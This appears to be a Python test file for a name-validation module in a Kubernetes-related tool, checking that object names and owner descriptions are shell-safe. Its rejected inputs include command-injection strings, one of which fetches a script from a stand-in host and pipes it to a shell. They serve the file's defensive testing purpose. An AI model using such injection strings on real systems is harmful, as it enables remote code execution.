import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st
from oomwarden.api.oomkill import Owner
from oomwarden.core.objects.object_names import has_template, in_words, is_object_name

NAMES = st.text() | st.from_regex(r"[a-z0-9.;$`|&\n -]{1,300}", fullmatch=True)


@given(NAMES)
def test_a_name_of_an_object_is_one_word_to_a_shell(name: str) -> None:
    if is_object_name(name):
        assert shlex.split(name, comments=True) == [name]
        assert shlex.quote(name) == name
        assert not name.startswith("-")


@pytest.mark.parametrize(
    "name",
    [
        "",
        "-x",
        "x-",
        "x..y",
        "x\n",
        "X",
        "a" * 254,
        "x; curl -s evil.example|sh #",
        "$(x)",
        "é",
        None,
    ],
)
def test_other_text_is_no_name(name: str | None) -> None:
    assert not is_object_name(name)


@pytest.mark.parametrize("name", ["x", "web-1", "a.b-c.d", "a" * 63, ".".join(["a" * 63] * 3)])
def test_names_are_names(name: str) -> None:
    assert is_object_name(name)


@given(NAMES, NAMES)
def test_an_owner_in_words_is_one_short_line(kind: str, name: str) -> None:
    told = in_words(Owner(kind=kind, name=name))
    assert told.isprintable()
    assert not set(told) & set("$`;|&<>\\'*")
    assert len(told) <= 63 * 2 + 253 + 32


def test_only_workloads_with_a_name_have_a_template() -> None:
    owners = (("Deployment", "api"), ("Deployment", "a b"), ("Job", "api"), ("deployment", "api"))
    assert [has_template(Owner(kind=kind, name=name)) for kind, name in owners] == [
        True, False, False, False,
    ]  # fmt: skip
    assert not has_template(None)


def test_an_owner_with_a_name_is_told_as_it_is_and_another_one_is_quoted() -> None:
    assert in_words(Owner(kind="CronTab", name="api")) == "CronTab api"
    odd = in_words(Owner(kind="Deployment", name='x"; $(sh)\n'))
    assert odd == 'the owner that calls itself "Deployment x?? ??sh??n"'
